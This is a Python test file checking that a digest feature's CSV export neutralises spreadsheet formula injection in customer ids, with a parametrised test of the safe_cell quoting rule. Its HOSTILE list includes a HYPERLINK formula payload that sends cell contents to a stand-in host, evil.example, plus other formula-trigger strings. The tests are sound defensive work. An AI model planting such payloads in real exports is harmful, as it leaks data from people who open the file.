"""The digest's CSV opens safely in a spreadsheet: ids written by another tool that start like a formula
are neutralised, and legitimate ids (`C-10042`, dashes inside) are written as they are; on both databases.
The database writes the lines (models/digest/queries.py `csv_line`) by the rule of commands/spreadsheet.py."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from bot.features.digest.blocks import ListWriter
from commands.spreadsheet import original_cell, safe_cell, safe_rows
from models import Database
from models.digest.queries import stuck_snapshot
from tests.digest.conftest import FULL_SCOPE, NOW, Customers
from tests.digest.oracle import csv_document, every_stuck_customer

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "'=already marked"]
LEGITIMATE = ["C-10042", "C-1-2", "A=B", "x@y"]


def test_hostile_ids_are_neutralised_and_legitimate_ones_kept(db: Database, customers: Customers) -> None:
    for customer_id in [*HOSTILE, *LEGITIMATE]:
        customers.add(customer_id, authorizations=(("active", NOW - 20 * timedelta(days=1), FULL_SCOPE, None),))
    listing = ListWriter(keep=5)
    with db.transaction() as session:
        stuck_snapshot(session, NOW, listing=listing)
        one_by_one = every_stuck_customer(session, NOW)
    document = listing.csv_bytes()
    assert document == csv_document(one_by_one, NOW)  # the database follows safe_cell byte for byte
    rows = list(csv.reader(io.StringIO(document.decode(), newline="")))
    first_cells = [row[0] for row in rows[1:] if row]
    # Every hostile id reads back behind a quote mark; the CR one too (csv.writer leaves a lone CR unquoted,
    # so a reader splits that line, but its first cell is still "'").
    assert {"'" + c for c in HOSTILE if c != "\rCR"} | {"'"} <= set(first_cells)
    assert set(LEGITIMATE) <= set(first_cells)  # written exactly as they are
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in first_cells)
    # The customers the digest keeps as objects are read back from those lines with their own ids.
    assert {c.customer_id for c in listing.customers} <= {*HOSTILE, *LEGITIMATE}
    assert listing.customers == one_by_one[:5]


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("'x", "''x"), ("C-10042", "C-10042"), ("", ""), (None, ""), (42, "42"), ("a=b", "a=b"),
])
def test_safe_cell_and_back(cell: object, safe: str) -> None:
    assert safe_cell(cell) == safe
    assert original_cell(safe) == ("" if cell is None else str(cell))


def test_safe_rows() -> None:
    assert safe_rows([["=x", "C-1", None]]) == "'=x,C-1,\n"
